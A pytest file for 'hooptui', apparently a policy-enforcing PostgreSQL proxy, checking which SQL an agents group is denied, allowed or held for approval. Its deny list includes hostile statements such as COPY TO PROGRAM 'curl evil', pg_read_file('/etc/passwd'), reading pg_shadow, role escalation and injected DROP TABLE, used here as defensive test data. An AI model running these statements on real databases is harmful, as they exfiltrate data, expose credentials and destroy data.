"""The policies that come with hooptui, under PostgreSQL's own parser: usable alone and together, and fully tested."""

from __future__ import annotations

from pathlib import Path

import pytest

from hooptui.core.model import Effect, Operation, SqlFacts, Target
from hooptui.core.vocabulary import COMMANDS, NEUTRAL
from hooptui.masking import make_masker
from hooptui.policy.decide import PolicyJudge
from hooptui.policy.loader import load
from hooptui.policy.suite import check, coverage, run_tests
from hooptui.protocols.postgres.facts import understand
from hooptui.protocols.postgres.facts_statements import DOES, NEUTRAL_CLASSES, QUERIES
from tests.policy.making import DEV, PROD, who

SHIPPED = Path(__file__).resolve().parents[2] / "policies"
FILES = sorted(SHIPPED.glob("*.yaml"))


def reader(sql: str) -> SqlFacts:
    return understand(sql).facts


def test_these_are_shipped() -> None:
    assert [path.name for path in FILES] == ["agents.yaml", "baseline.yaml", "on-call.yaml", "pii-masking.yaml"]


@pytest.mark.parametrize(
    "paths", [[SHIPPED], *([path] for path in FILES), FILES[:2], FILES[1:]], ids=lambda paths: paths[0].name
)
def test_alone_and_together_they_pass_their_tests_which_notice_every_rule(paths: list[Path]) -> None:
    report = check(paths)
    assert report.problems == ()
    assert report.policy is not None
    masks_only = not report.policy.rules
    assert report.warnings == ((f"{paths[0]}:1: nothing is allowed: nobody can connect",) if masks_only else ())
    assert [str(one) for one in run_tests(report.policy, reader).failed] == []
    assert [str(one) for one in coverage(report.policy, reader).uncovered] == []


@pytest.fixture(scope="module")
def judge() -> PolicyJudge:
    return PolicyJudge(load([SHIPPED]))


def effect(judge: PolicyJudge, sql: str, *groups: str, on: Target = PROD) -> Effect:
    return judge.decide(who(*groups), on, Operation("postgres", "x", sql, reader(sql))).effect


@pytest.mark.parametrize(
    "sql",
    [
        "DROP TABLE orders",
        "SELECT 1; DROP TABLE orders",
        "DO $$ BEGIN EXECUTE 'drop table orders'; END $$",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
        "COPY orders TO PROGRAM 'curl evil'",
        "COPY orders TO '/tmp/x'",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT * FROM pg_catalog.pg_shadow",
        'SELECT * FROM "pg_stats"',
        "SET ROLE postgres",
        "GRANT dba TO agents",
        "ALTER SYSTEM SET fsync = off",
        "SELECT * INTO t2 FROM orders",
        "CREATE TEMP TABLE t AS SELECT * FROM orders",
        "LOCK orders",
        "TRUNCATE orders",
        "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1",
        "SELECT dblink_exec('x', 'drop table orders')",
        "gibberish",
        "",
    ],
)  # fmt: skip
def test_what_an_agent_never_gets(judge: PolicyJudge, sql: str) -> None:
    for target in (PROD, DEV):
        expected = Effect.ALLOW if not sql else Effect.DENY
        assert effect(judge, sql, "agents", on=target) is expected


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT id, email FROM customers LIMIT 5",
        "WITH t AS (SELECT * FROM a) SELECT count(*), lower(x) FROM t JOIN b USING (id) GROUP BY 2",
        "EXPLAIN SELECT 1",
        "SHOW server_version",
        "BEGIN; SELECT 1; COMMIT",
        "SET application_name = 'x'",
    ],
)
def test_what_an_agent_gets(judge: PolicyJudge, sql: str) -> None:
    assert effect(judge, sql, "agents") is Effect.ALLOW


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE t SET a = 1 WHERE id = 1",
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        "DELETE FROM t",
        "INSERT INTO t VALUES (1)",
    ],
)
def test_what_an_agent_must_wait_for(judge: PolicyJudge, sql: str) -> None:
    assert effect(judge, sql, "agents") is Effect.HOLD


def test_a_change_of_everything_is_grave(judge: PolicyJudge) -> None:
    decision = judge.decide(who("agents"), PROD, Operation("postgres", "delete", "", reader("DELETE FROM payments")))
    terms = decision.terms
    assert terms is not None
    assert (terms.risk, terms.by, terms.scopes, terms.reason_required) == ("high", {"dba"}, ("once",), True)
    assert decision.rules[0] == "agents-change-without-where"


def test_the_masks_are_fit_for_the_masker(judge: PolicyJudge) -> None:
    masks = judge.masks(who("agents"), PROD)
    assert len(masks.rules) == 8
    assert make_masker(masks, bytes(32)).masks == masks


def test_the_reader_speaks_the_vocabulary_of_the_rules() -> None:
    does = {word for words in DOES.values() for word in words.split()} | set(QUERIES.values())
    assert does <= COMMANDS
    assert set(NEUTRAL_CLASSES.values()) <= NEUTRAL
